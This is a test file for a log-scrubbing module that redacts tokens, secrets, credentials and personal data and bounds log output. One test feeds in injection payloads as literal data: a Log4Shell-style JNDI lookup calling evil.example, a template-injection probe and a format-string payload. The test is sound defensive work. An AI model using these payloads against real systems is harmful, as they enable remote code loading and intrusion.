import { describe, expect, it } from '@jest/globals';
import { Secret } from '../../core/secret.js';
import { scrubText, scrubValue } from './scrub.js';

const JWT = 'eyJhbGciOiJSUzI1NiJ9.eyJ1c2VyX25hbWUiOiIxMjMifQ.c2lnbmF0dXJl';

describe('a text for the log', () => {
  it.each([
    [`Invalid refresh token: ${JWT}`],
    [`Invalid refresh token: ${JWT.slice(0, 12)}`],
    ['refresh_token=0123456789abcdef&grant_type=refresh_token'],
    ['{"refresh_token":"0123456789abcdef"}'],
    ["device_code='0123456789abcdef'"],
    ['invalid device code 0123456789abcdef'],
    ['client_secret: 0123456789abcdef'],
    ['Authorization: Basic MDEyMzQ1Njc4OWFiY2RlZg=='],
    ['postgresql://service:0123456789abcdef@db/orders refused'],
    ['buyer jan.kowalski+allegro@mail.example.com wrote'],
    ['call +48 600 100 200 now'],
  ])('keeps nothing of %j', (text) => {
    expect(scrubText(text)).not.toMatch(/0123456789abcdef|MDEyMzQ1|eyJ|kowalski|600 100/);
  });

  it('keeps ids and plain words', () => {
    const text = 'token 5e0c6c0e-0c39-4d8b-9f9a-6a3f4c1d2e3f of account 17 was refreshed in 120 ms';
    expect(scrubText(text)).toBe(text);
  });

  it('is one line, without colours or hidden direction, and bounded', () => {
    const scrubbed = scrubText(`a\r\n{"level":60}\u001b[31m\u2028\u202e${'x'.repeat(1_000_000)}`);
    expect(scrubbed).not.toMatch(/[\r\n\u001b\u2028\u202e]/);
    expect(scrubbed.length).toBeLessThan(2_200);
  });

  it.each(['${jndi:ldap://evil.example/a}', '{{7*7}}', '%s%n%d%j'])('is taken literally: %s', (text) => {
    expect(scrubText(text)).toBe(text);
  });
});

describe('a value for the log', () => {
  it('shows no secret by type, by name or inside an error and its causes', () => {
    const cause = Object.assign(new Error(`cause ${JWT}`), { code: 'E1' });
    const value = {
      plain: new Secret('canary-type'),
      headers: { authorization: 'canary-name', cookie: 'canary-name' },
      refresh_token: 'canary-name',
      clientSecret: 'canary-name',
      buyer: { email: 'canary-name', firstName: 'canary-name', phoneNumber: 'canary-name' },
      err: new Error(`failed for jan@mail.example.com with ${JWT}`, { cause }),
      token_id: '5e0c6c0e',
    };
    const printed = JSON.stringify(scrubValue(value));
    expect(printed).not.toMatch(/canary|eyJ|jan@/);
    expect(printed).toContain('"token_id":"5e0c6c0e"');
    expect(printed).toContain('"code":"E1"');
  });

  it('is bounded in depth and width, and a circle ends', () => {
    const circle: { self?: unknown } = {};
    circle.self = circle;
    expect(JSON.stringify(scrubValue(circle)).length).toBeLessThan(200);
    expect(scrubValue(Array.from({ length: 1_000 }, () => 1))).toHaveLength(50);
  });

  it('survives what JSON does not know', () => {
    expect(scrubValue({ a: 10n, b: () => 1, c: Symbol('x'), d: undefined, e: new Date(Number.NaN), f: new Date(0) })).toEqual({
      a: '10',
      b: '[function]',
      c: '[symbol]',
      d: undefined,
      e: 'invalid date',
      f: '1970-01-01T00:00:00.000Z',
    });
  });
});
